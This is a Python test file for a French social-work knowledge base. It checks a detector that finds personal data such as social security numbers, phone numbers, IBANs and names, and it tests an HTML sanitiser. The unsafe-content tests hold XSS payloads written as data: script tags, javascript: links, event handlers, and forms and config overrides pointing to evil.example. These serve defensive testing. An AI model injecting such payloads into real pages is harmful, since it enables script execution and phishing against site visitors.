"""Personal data and unsafe content: what is caught, what is not, and the exception marker."""

from __future__ import annotations

import importlib.util
import json
from pathlib import Path

import pytest

import privacy_cases
from support import FIXTURES, REPO
from kb.checks.names import FIRST_NAMES_PATH, NOT_NAMES, citation_spans, is_first_name
from kb.checks.privacy import find_personal_data, mask
from kb.checks.privacy_quality import score
from kb.checks.unsafe import find_unsafe

CAUGHT = [
    ("donnee-nir", "Son numéro : 1 85 05 78 006 084 91."),
    ("donnee-nir", "NIR 185057800608491"),
    ("donnee-nir", "née en Corse : 2 91 02 2A 123 456 29"),
    ("donnee-nir", "1 85 05 2B 123 456 60"),
    ("donnee-telephone", "appelez le 06 12 34 56 78"),
    ("donnee-telephone", "tél. 01.45.67.89.10"),
    ("donnee-telephone", "+33 6 12 34 56 78"),
    ("donnee-telephone", "+33 (0)1 45 67 89 10"),
    ("donnee-telephone", "0033612345678"),
    ("donnee-telephone", "à La Réunion : 0692 12 34 56"),
    ("donnee-telephone", "+262 692 12 34 56"),
    ("donnee-telephone", "en Guadeloupe, 0590 12 34 56"),
    ("donnee-telephone", "à Nouméa : +687 75 12 34"),
    ("donnee-courriel", "écrire à jean.dupont@example.org"),
    ("donnee-iban", "IBAN FR76 3000 6000 0112 3456 7890 189"),
    ("donnee-iban", "FR7630006000011234567890189"),
    ("donnee-naissance", "l'enfant né le 14 février 2009"),
    ("donnee-naissance", "née le 03/02/1987"),
    ("donnee-naissance", "Né(e) le 1er mars 1990"),
    ("donnee-naissance", "date de naissance : 12/05/2001"),
    ("donnee-adresse", "il habite 12 rue des Lilas"),
    ("donnee-adresse", "au 3 bis avenue Jean Jaurès"),
    ("donnee-adresse", "5, place de la République"),
    ("donnee-nom", "Mme Benali est venue"),
    ("donnee-nom", "reçu par M. Dupont"),
    ("donnee-nom", "Monsieur MARTIN"),
    ("donnee-nom", "Madame Le-Gall"),
    ("donnee-dossier", "dossier n° 2023-45678"),
    ("donnee-dossier", "numéro d'allocataire 1234567"),
]

ORDINARY = [
    "loi n° 2002-2 du 2 janvier 2002 rénovant l'action sociale et médico-sociale",
    "décret n° 2016-1645 du 1er décembre 2016",
    "Circulaire DHOS/O2/DGS/6C/DGAS/1A/1B n° 2005-521 du 23 novembre 2005",
    "loi du 5 mars 2007 réformant la protection de l'enfance",
    "article L411-3 du CASF ; CASF L345-2-4 ; art. L. 223-1",
    "article 226-13 du Code pénal",
    "appeler le 119, le 115 ou le 3919",
    "tél. 3977 (Allô maltraitance)",
    "Fil Santé Jeunes : 0 800 235 236 (numéro vert)",
    "le 08 00 23 13 13, appel gratuit",
    "en 2009, 35 % des personnes ; 12 000 personnes en 2019 ; 1 500 000 ménages",
    "Plan pauvreté 2018-2022 : 8,5 milliards d'euros",
    "ISBN 978-2-7071-5431-8",
    "ISBN 2-07-036822-X",
    "doi:10.1016/j.childyouth.2019.03.012",
    "https://doi.org/10.3917/vst.123.0045",
    "https://www.legifrance.gouv.fr/codes/article_lc/LEGIARTI000006796785",
    "M. X, 15 ans, et Mme D. sont reçus",
    "Madame la juge ; M. le directeur ; Madame, Monsieur,",
    "à partir du 1er janvier 2022 ; né en 2009 ; de 9 h à 17 h ; entre 06:00 et 08:00 ; 07/2023",
    "les 2 places de parking ; les 3 cours du matin",
    "il ne le dit pas le 3 mai ; elle ne le fera pas",
    "le dossier de la personne ; l'allocataire du RSA",
]


@pytest.mark.parametrize("code,text", CAUGHT)
def test_personal_data_is_caught(code: str, text: str) -> None:
    assert code in {finding.code for finding in find_personal_data(text)}


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_sheet_text_raises_no_alarm(text: str) -> None:
    assert find_personal_data(text) == []


def test_a_nir_whose_key_does_not_check_is_still_a_nir() -> None:
    """A reader cannot tell a wrong key from a right one: fifteen digits of a NIR's shape are someone's
    number as far as the sheet's readers know (a digit changed by hand, a typo). Thirteen digits
    without a word about social security are not taken for one (a tax number has thirteen)."""
    assert [f.code for f in find_personal_data("185057800608492")] == ["donnee-nir"]
    assert "donnee-nir" not in {f.code for f in find_personal_data("Numéro fiscal : 1850578006084.")}


def test_findings_are_masked() -> None:
    assert mask("06 12 34 56 78") == "06 •• •• •• 78"
    assert mask("Mme Benali") == "Mme B•••••"
    assert mask("Jordan Lefebvre") == "J••••• L•••••••"
    assert mask("Jean-Pierre") == "J•••-P•••••"


def test_the_real_starter_content_raises_no_alarm() -> None:
    for path in (REPO / "practices").rglob("*.md"):
        assert find_personal_data(path.read_text(encoding="utf-8")) == [], path


def _sheet_with(project: Path, line: str, name: str = "secret") -> Path:
    text = (FIXTURES / "diagnostics" / "donnee-nom.md").read_text(encoding="utf-8")
    path = project / "practices" / f"{name}.md"
    path.write_text(text.replace("id: donnee-nom", f"id: {name}")
                        .replace("Mme Benali est reçue par l'éducatrice.", line), encoding="utf-8")
    return path


def _codes(kb, project: Path) -> list[tuple[str, int]]:
    result = kb("--root", project, "check", "--format", "json")
    assert "Traceback" not in result.out + result.err
    return [(d["code"], d["line"]) for d in json.loads(result.out)]


def test_kb_check_names_file_line_and_masks(project: Path, kb) -> None:
    _sheet_with(project, "Elle rappelle au 06 12 34 56 78.")
    result = kb("--root", project, "check")
    assert result.exit_code == 1
    assert "practices/secret.md:24:18: erreur: donnée personnelle : un numéro de téléphone (« 06 •• •• •• 78 »)" in result.out
    assert "56 78" not in result.out.replace("•• 78", "")


def test_a_justified_exception_silences_only_its_line_and_code(project: Path, kb) -> None:
    _sheet_with(project, "Mme Benali a écrit l'ouvrage cité. <!-- relier-autoriser: donnee-nom — autrice citée -->")
    assert _codes(kb, project) == []
    _sheet_with(project, "Mme Benali, 06 12 34 56 78. <!-- relier-autoriser: donnee-nom — autrice citée -->")
    assert _codes(kb, project) == [("donnee-telephone", 24)]


def test_an_exception_marker_needs_a_known_code_and_a_reason(project: Path, kb) -> None:
    _sheet_with(project, "Mme Benali. <!-- relier-autoriser: donnee-nom -->")
    assert sorted(_codes(kb, project)) == [("donnee-nom", 24), ("exception", 24)]
    _sheet_with(project, "Texte. <!-- relier-autoriser: contenu-dangereux — parce que -->")
    assert _codes(kb, project) == [("exception", 24)]


def test_an_exception_in_the_front_matter(project: Path, kb) -> None:
    path = _sheet_with(project, "Un contexte.")
    text = path.read_text(encoding="utf-8").replace(
        '  - titre: "Une référence de test"',
        '  - titre: "Entretien avec M. Dupont"  # relier-autoriser: donnee-nom — auteur du livre cité', 1)
    path.write_text(text, encoding="utf-8")
    assert _codes(kb, project) == []
    path.write_text(text.replace("  # relier-autoriser: donnee-nom — auteur du livre cité", ""), encoding="utf-8")
    assert _codes(kb, project) == [("donnee-nom", 16)]


UNSAFE = [
    "<script>alert(1)</script>",
    "<SCRIPT src=https://evil.example/x.js></SCRIPT>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object>',
    '<embed src="x.swf">',
    '<form action="https://evil.example"><input name="nir"></form>',
    '<img src="x.png" onerror="alert(1)">',
    '<p onclick="alert(1)">cliquez</p>',
    "[un lien](javascript:alert(1))",
    "[un lien]( JavaScript:alert(1) )",
    "![image](data:image/svg+xml;base64,PHN2Zz4=)",
    '<a href="javascript:alert(1)">lien</a>',
    '<img src="data:text/html,<script>alert(1)</script>">',
    "[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<svg onload="alert(1)"></svg>',
]
HARMLESS = [
    "Un lien [vers Légifrance](https://www.legifrance.gouv.fr/) et <https://www.cnape.fr/>.",
    "Le <abbr title=\"Aide sociale à l'enfance\">ASE</abbr> et un <br> saut de ligne.",
    "Données : 35 % ; les données : une base de données.",
    "Un commentaire <!-- relier-autoriser: donnee-nom — auteur cité --> et 3 < 5 > 2.",
    "Le mot onclick est un mot ; once = une fois.",
]


@pytest.mark.parametrize("code,text", [case for case in privacy_cases.CAUGHT
                                       if case[1] not in privacy_cases.KNOWN_MISSES])
def test_red_team_personal_data_is_caught(code: str, text: str) -> None:
    assert code in {finding.code for finding in find_personal_data(text)}


@pytest.mark.parametrize("text", [t for t in privacy_cases.ORDINARY if t not in privacy_cases.KNOWN_FALSE_ALARMS])
def test_red_team_ordinary_text_raises_no_alarm(text: str) -> None:
    assert find_personal_data(text) == []


def test_known_limits_are_still_limits() -> None:
    """When a limit is lifted, move the case out of KNOWN_… so that it stays covered."""
    assert all(not find_personal_data(t) for t in privacy_cases.KNOWN_MISSES)
    assert all(find_personal_data(t) for t in privacy_cases.KNOWN_FALSE_ALARMS)


def test_dense_pathological_input_stays_fast() -> None:
    import time

    find_personal_data("Kevin")  # the first-name pattern is compiled once
    clock = time.perf_counter()
    for text in ("@" * 100_000, "M. " * 60_000, "1 rue " * 30_000, "06 " * 50_000, "Kevin " * 30_000,
                 "la famille Martin " * 10_000, "bât. A, appt 3 " * 10_000, "x [at] y " * 20_000,
                 "Jordan Lefebvre, " * 10_000, "1" * 100_000 + "x", "Jean Dupont et Marie Curie et " * 3_000,
                 "On l'appelle « " + "A b " * 10_000, "| N° dossier |\n|---|\n" + "| 22/0457 |\n" * 10_000,
                 "Les Moreau ont " * 10_000, "vu mme lopez " * 10_000, "*a b " * 20_000,
                 "J. Dupont refuse. " * 10_000, "« mme x " * 20_000, "https://a.org/?q=" + "1+rue+" * 20_000,
                 "Kevin (prénom modifié) " * 10_000, "Kevin Dupont, personnage inventé, " * 5_000, "Wiśniewski " * 30_000,
                 "/dossiers/lucie-martin/" * 5_000, "dossier née le 1 " * 10_000,  # (a link's path: minutes, once)
                 "zéro six trente-neuf " * 10_000, "« " + "la petite léa " * 10_000, "VAD Hamidou " * 5_000,
                 "le monsieur s'appelle Marinescu " * 5_000, "- vad chez les kerbrat\n" * 5_000,
                 "CAF manquants | 07 00 00 41 63 " * 5_000):
        find_personal_data(text)
    # a guard against quadratic blow-ups (minutes: « /dossiers/… » repeated took more than 10 minutes for a day,
    # 2026-12-08), not a speed measure: 17 s idle on 2026-12-08 at the session's start, 20 s after it (tens of
    # thousands of names each judged on its bounded context); twice that on a busy machine. 2026-12-08, fourth
    # session: 24 s idle with the six inputs added for the new detectors (dictated numbers, quoted dictations,
    # « VAD Hamidou », « s'appelle », lower-case families, a phone inside a file's trigger)
    assert time.perf_counter() - clock < 60  # windows are merged, names judged on a bounded context


# --- the red-team set of names and the other kinds a careful editor catches ---------------------

@pytest.mark.parametrize("text, flagged", [
    ("À l'IME, le groupe va au jardin.\nTeva participe à l'atelier deux fois par semaine ; il supporte mal les changements.", True),
    ("Bondarenko est revenu ivre au CHRS pour la troisième fois.", True),
    ("Ayodele ne dort pas à la sieste et pleure dès que sa mère s'en va.", True),
    ("Marseille accueille chaque année le congrès ; elle y présente ses travaux.", False),  # a town
    ("Winnicott montre que l'enfant a besoin d'une mère suffisamment bonne.", False),  # an author
    ("Parcoursup ouvre en janvier ; chaque élève y saisit ses vœux.", False),  # a platform
])
def test_a_first_name_the_dictionary_lacks_heading_a_sentence_about_someone(text: str, flagged: bool) -> None:
    assert any(f.code == "donnee-nom" for f in find_personal_data(text)) == flagged, find_personal_data(text)


def test_the_red_team_set_is_large_and_half_of_it_must_pass() -> None:
    total = len(privacy_cases.FLAG) + len(privacy_cases.CLEAN)
    assert total >= 150 and len(privacy_cases.CLEAN) >= total / 2
    assert len({text for _, _, text in privacy_cases.FLAG} | {text for _, text in privacy_cases.CLEAN}) == total


def test_red_team_recall_and_false_alarms() -> None:
    """At least 95 % of what must be caught is caught, at most 2 % of what must pass is flagged
    (scripts/privacy_quality.py prints the same per kind)."""
    result = score(privacy_cases.FLAG, privacy_cases.CLEAN)
    misses = [text for kind in result.kinds.values() for text in kind.misses]
    alarms = [text for kind in result.kinds.values() for text in kind.alarms]
    assert result.recall >= 0.95, misses
    assert result.false_alarm_rate <= 0.02, alarms


def _outside_set(name: str):
    spec = importlib.util.spec_from_file_location(name, Path(__file__).parent / "privacy" / f"{name}.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


@pytest.mark.parametrize("name,min_recall,max_false_alarms", [
    # Each set was written by a helper that saw neither the detector nor its cases nor the other sets,
    # measured before and after changes made on the sets before it, then (1–4) used to change the
    # detector. Figures: found, false alarms.
    # 1: 73.1 % / 9.4 % before; 88.8 % / 0 % after its own changes; 95.5 % / 0 % on 2026-12-07
    ("hors_echantillon_1", 0.95, 0.01),
    # 2: 66.1 % / 15.2 %; 71.4 % / 8.9 % after the changes on set 1; 76.8 % / 8.9 % after its own; 93.8 % / 0.9 %
    ("hors_echantillon_2", 0.92, 0.01),
    # 3: 58.8 % / 4.4 %; 71.4 % / 4.4 % after the changes on sets 1–2; 91.6 % / 0 % after its own (2026-12-07)
    ("hors_echantillon_3", 0.90, 0.01),
    # 4: 68.4 % / 5.2 % before the changes of 2026-12-07 made on sets 1–3 (names in emphasis or brackets,
    # word-like names heading a sentence, unknown names beside an age, birth dates in tables, file numbers
    # after « n° »); 76.8 % / 4.0 % after them; 98.7 % / 0 % after its own (nicknames, families in the
    # plural, IBANs and NIRs whose key does not check, RIBs, columns of file numbers, contact blocks,
    # characters of fiction, 154 more first names in the dictionary)
    ("hors_echantillon_4", 0.96, 0.01),
    # 5: 73.9 % / 5.9 % on main before 2026-12-07; 80.3 % / 4.9 % after the changes made on sets 1–3;
    # 88.0 % / 3.8 % after those made on set 4; then used to change the detector: 95.8 % / 1.6 %
    ("hors_echantillon_5", 0.95, 0.02),
    # 6: written after the changes made on sets 1–4: 83.7 % / 10.1 % on main before 2026-12-07; 90.1 % / 6.3 %
    # after the changes made on sets 1–4; 90.8 % / 5.8 % after those made on set 5; then used to change the
    # detector (2026-12-08: form fields, unlisted full names beside an age, civility + initial + (first name),
    # births and accouchements « le … », RIB fields in words, IPP, dotted parquet numbers; authors, fiction,
    # services' addresses): 100 % / 0 %
    ("hors_echantillon_6", 0.97, 0.01),
    # 7: written on 2026-12-07 (housing, asylum, employment, violence, justice for minors, addictions),
    # measured once: 94.2 % / 6.3 % on main before 2026-12-08, 94.8 % / 5.9 % after the changes made on
    # set 6; then used (bibliographies, authors' brackets, works named with their director, institutions
    # named after someone, lower-case « prénom nom » in notes, aliases, birth-date labels in other
    # languages, form boxes, tenants' numbers): 100 % / 0 %
    ("hors_echantillon_7", 0.97, 0.01),
    # 8: written on 2026-12-07 (longer texts: whole sections of sheets, front matter, contacts, bibliographies),
    # measured once: 92.3 % / 6.2 % on main before 2026-12-08, 92.3 % / 5.0 % after the changes made on sets 6
    # and 7; then used (tables of works and of people, families in capitals, YAML keys of birth dates and of
    # references, OFPRA/OFII numbers, quotations' authors, actors, roles, centuries): 98.7 % / 0.4 %
    ("hors_echantillon_8", 0.97, 0.01),
    # 9: written on 2026-12-08 (what a contributor pastes in a hurry, half of it anonymised right), measured
    # only, never looked at: 91.2 % / 5.2 % at the start of 2026-12-08, 92.5 % / 3.8 % after the changes made on
    # sets 6 and 7, 93.9 % / 3.8 % after those made on set 8; 93.9 % / 4.3 % once « drame » and « comédie » no
    # longer made a sentence fiction (« Après le drame, Mme Lefort… » names someone); then used (2026-12-08, second
    # session: letters of other Latin alphabets, initials before a surname, a first name said to be changed,
    # characters said to be invented, a map's link, an IBAN in a file's name, « PPA de », civilities in a quoted
    # message, a former minister, a film's actor): 99.3 % / 0 %
    ("hors_echantillon_9", 0.97, 0.01),
    # 10: written on 2026-12-08 (the sections of a sheet as contributors fill them), measured blind once: 82.9 % /
    # 6.7 % before and after the changes made on set 9; then used (2026-12-08, third session: YAML keys of
    # reviewers and translators, quotations signed « — Name, trade », sections headed as fictive, a work named
    # « le roman « … » de … », institutions' Cedex/TSA/SP addresses, a sentence wrapped over two lines, « le nom de »,
    # « évaluation de », the relative of someone named in full, « °12/09/1941 », a passport's « 05 MAY 1990 »,
    # NIA numbers, WhatsApp links, links to a person's folder, quoted notes in straight quotes, file numbers
    # after a line break or a comma, a prisoner's cell, a first name that is a word doing something): 93.8 % / 0 %
    ("hors_echantillon_10", 0.92, 0.01),
    # 11: written on 2026-12-08 (text pasted from the tools of daily work: minutes, forwarded mails, software exports,
    # SMS, voice notes), measured blind: 88.9 % / 6.8 % at the start of the third session, 88.9 % / 5.7 % after the
    # changes made on set 10; then used (a flat's designation after an address, a sentence begun on the line above a
    # number, works named with their year heading a paragraph, reviewers « relue par », signatures « Name, trade »
    # alone on their line, triggers inside triggers: « dossier ma fille elle est née le 11 avril »): 92.0 % / 1.1 %
    ("hors_echantillon_11", 0.90, 0.02),
    # 12: written on 2026-12-08 (whole sheets, 10 to 40 lines, as contributors submit them), measured blind: 84.3 % /
    # 18.1 % at the start of the third session, 85.0 % / 14.3 % after the changes made on sets 10 and 11; then its
    # false alarms (not its misses) were read and mended: 85.0 % / 9.5 %. A long text has many chances of an alarm.
    # 85.8 % after the changes made on set 13 (fourth session), still unread; then its misses were read (an IBAN
    # wrapped over two lines, a phone after « papa » in a row that also says « équipe », a tour's address in a
    # table headed « Lieu » whose row says « visite », « n° 24/00317 », « écrou (ici 21458) », « l'orthophoniste de
    # Lina Bouchard », « Attoumani, 8 mois », « la petite Manon Guillot » in a list of resources): 93.7 % / 9.5 %
    ("hors_echantillon_12", 0.92, 0.11),
    # 13: written on 2026-12-08 (fourth session: what workers paste before rewriting it — handovers, minutes, mails,
    # voice dictations with numbers spelled out, agendas with a « Rappeler au » column), measured blind: 85.8 % /
    # 3.6 %; then used (numbers dictated in words read in figures, « née en Érythrée le … », a phone whose trigger
    # starts inside a file's, « VAD Hamidou », « s'appelle … », a name spelled out, lower-case names in a quoted
    # dictation, « chez les kerbrat », a keyless NIR in its groups, a service « reçoit à » an address): 98.5 % / 0 %.
    # Set 12 went 85.0 → 85.8 % with these changes (its misses still unread)
    ("hors_echantillon_13", 0.96, 0.01),
    # 14: written on 2026-12-08 (names in all their forms and places: rare and foreign first names alone, surnames
    # alone, names in URLs, file names, alt texts, tables; text that looks like names), measured blind once at the
    # end of the fourth session: 72.6 % / 4.0 %. Its misses were then read: a first name the dictionary lacks heading
    # a sentence before what someone does, in a sentence about their life (kb/checks/unlisted_names.py): 74.7 % / 4.0 %
    ("hors_echantillon_14", 0.72, 0.05),
])
def test_recall_and_false_alarms_outside_the_red_team_set(name: str, min_recall: float,
                                                         max_false_alarms: float) -> None:
    cases = _outside_set(name)
    assert len(cases.FLAG) >= 100 and len(cases.CLEAN) >= 100
    result = score(cases.FLAG, cases.CLEAN)
    assert result.recall >= min_recall, [text for kind in result.kinds.values() for text in kind.misses]
    assert result.false_alarm_rate <= max_false_alarms, [text for kind in result.kinds.values() for text in kind.alarms]


def test_the_quality_score_counts_what_it_is_given() -> None:
    result = score([("a", "donnee-nom", "Kevin, 14 ans, a fugué."), ("a", "donnee-nom", "Un adolescent de 14 ans.")],
                   [("b", "Selon Carl Rogers (1961)."), ("b", "Inès est arrivée hier.")])
    assert (result.recall, result.false_alarm_rate) == (0.5, 0.5)
    assert result.kinds["a"].misses == ["Un adolescent de 14 ans."]
    assert result.kinds["b"].alarms == ["Inès est arrivée hier."]


def test_the_first_names_list_says_where_it_comes_from() -> None:
    text = FIRST_NAMES_PATH.read_text(encoding="utf-8")
    header = [line for line in text.splitlines() if line.startswith("#")]
    names = [line for line in text.splitlines() if line and not line.startswith("#")]
    assert any("gender-guesser" in line for line in header) and any("Free Documentation License" in line
                                                                     for line in header)
    assert 5_000 < len(names) < 10_000 and len(text.encode()) < 100_000
    assert all(is_first_name(name) for name in ("Kevin", "Inès", "Ines", "Fatoumata", "Mathis", "Aïcha"))
    assert not any(is_first_name(word) for word in NOT_NAMES)


def test_citations_are_found_in_the_front_matter_and_in_the_resources_section() -> None:
    text = ("titre: x\nsources:\n  - titre: t\n    auteur: \"Jordan Lefebvre\"\nlicence: y\n\n## Contexte\n\n"
            "Jordan Lefebvre, 16 ans.\n\n## Ressources\n\n- Jordan Lefebvre, un livre.\n")
    spans = citation_spans(text)
    assert [text[lo:hi].split("\n")[0] for lo, hi in spans] == ["sources:", "## Ressources"]
    assert [(f.code, text[f.start:f.end]) for f in find_personal_data(text)] == [("donnee-nom", "Jordan Lefebvre")]
    assert text.index("Jordan Lefebvre, 16") == find_personal_data(text)[0].start


def test_kb_check_names_the_kind_masks_the_name_and_gives_the_fix(project: Path, kb) -> None:
    _sheet_with(project, "Kevin, 14 ans, refuse de retourner chez sa mère.")
    result = kb("--root", project, "check")
    assert result.exit_code == 1
    assert ("practices/secret.md:24:1: erreur: donnée personnelle : un prénom dans une situation reconnaissable "
            "(« K•••• »). Une fiche est publique : remplacez le prénom par une description "
            "(« un adolescent de 14 ans »") in result.out
    assert "Kevin" not in result.out


def test_a_family_name_in_the_title_is_found_on_its_line(project: Path, kb) -> None:
    path = _sheet_with(project, "Un contexte.")
    path.write_text(path.read_text(encoding="utf-8").replace('titre: "Une fiche de test"',
                                                             'titre: "Accompagner la famille Benali"'), encoding="utf-8")
    assert _codes(kb, project) == [("donnee-nom", 3)]


def test_an_author_in_the_sources_passes_and_the_same_name_with_an_age_does_not(project: Path, kb) -> None:
    path = _sheet_with(project, "Selon Jordan Lefebvre (2019), l'accueil commence avant la porte.")
    path.write_text(path.read_text(encoding="utf-8").replace(
        '  - titre: "Une référence de test"', '  - titre: "Une référence de test"\n    auteur: "Jordan Lefebvre"'),
        encoding="utf-8")
    assert _codes(kb, project) == []
    _sheet_with(project, "Jordan Lefebvre, 16 ans, est accueilli depuis mars.")
    assert _codes(kb, project) == [("donnee-nom", 24)]


def test_the_exception_marker_covers_the_new_kinds(project: Path, kb) -> None:
    _sheet_with(project, "Inès est arrivée en septembre. <!-- relier-autoriser: donnee-nom — héroïne du roman cité -->")
    assert _codes(kb, project) == []
    _sheet_with(project, "Inès est arrivée en septembre, née le douze mars deux mille neuf. "
                         "<!-- relier-autoriser: donnee-nom — héroïne du roman cité -->")
    assert _codes(kb, project) == [("donnee-naissance", 24)]


@pytest.mark.parametrize("label,text", privacy_cases.UNSAFE_TRICKY)
def test_obfuscated_unsafe_content_never_survives_the_sanitiser(label: str, text: str) -> None:
    """What the check may miss (entities, odd spacing), the sanitiser removes: parse what is left."""
    from html.parser import HTMLParser

    import markdown

    from kb.sanitise import sanitise

    found: list[str] = []

    class Elements(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag in ("script", "iframe", "object", "embed", "form", "style", "base", "meta"):
                found.append(tag)
            for name, value in attrs:
                # what a browser does with a URL: drop tabs and line feeds, trim controls and spaces
                scheme = (value or "").translate({9: None, 10: None, 13: None}).strip("\x00- ").lower()
                if name.startswith("on") or name == "style" or scheme.startswith(("javascript:", "data:", "vbscript:")):
                    found.append(f"{tag} {name}={value}")

    Elements().feed(sanitise(markdown.markdown(text, extensions=["attr_list", "md_in_html"])))
    assert found == [], label


@pytest.mark.parametrize("text", UNSAFE)
def test_unsafe_content_is_refused(text: str, project: Path, kb) -> None:
    assert list(find_unsafe(text))
    _sheet_with(project, text)
    assert ("contenu-dangereux", 24) in _codes(kb, project)


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_markup_is_accepted(text: str) -> None:
    assert list(find_unsafe(text)) == []


def test_escaped_generated_pages_are_cleaned_as_soon_as_something_could_run() -> None:
    from kb.sanitise import needs_cleaning

    assert needs_cleaning("fiches/une-fiche/index.md", "<p>texte</p>")  # sheet bodies: always
    assert needs_cleaning("a-propos/index.md", "<p>texte</p>")          # hand-written pages: always
    assert not needs_cleaning("explorer/index.md", "<script src='x.js'></script>")  # our own scripts
    assert not needs_cleaning("publics/adultes/index.md", '<ul><li><a href="../x/index.html">Titre</a></li></ul>')
    for injected in UNSAFE + ['<a href="jav&#x61;script:alert(1)">x</a>']:
        assert needs_cleaning("publics/adultes/index.md", f"<p>avant</p>{injected}"), injected


def test_the_theme_s_ids_and_layout_classes_are_not_left_to_contributed_content() -> None:
    """Red team, 2026-12-07: « <div id="__config"> » came before Material's own settings and was read
    in their place (pages then loaded from another host); « md-dialog md-dialog--active » drew a
    notice in the site's style over the page."""
    from kb.sanitise import sanitise

    cleaned = sanitise('<div id="__config">{"base":"https://evil.example/"}</div><p id="&#95;&#95;search">x</p>'
                       '<div class="md-dialog md-dialog--active"><div class="md-dialog__inner md-typeset">Session '
                       'expirée <a class="md-button" href="https://evil.example/">reconnexion</a></div></div>'
                       '<h2 id="contexte" class="relier-x">Contexte</h2>')
    assert "__config" not in cleaned and "__search" not in cleaned and "md-dialog" not in cleaned
    assert 'class="md-button"' in cleaned and '<h2 id="contexte" class="relier-x">' in cleaned
    # second pass: a quote in the class list hid it from the quick scan; SVG paint from another host
    cleaned = sanitise('<div class="l\'x md-dialog md-dialog--active">Session expirée</div>'
                       '<svg><rect fill="url(https://evil.example/f.svg#g)"/><circle stroke="&#117;rl(//evil.example/s)"'
                       ' fill="#fff"/></svg>')
    assert "md-dialog" not in cleaned and "evil.example" not in cleaned and 'fill="#fff"' in cleaned
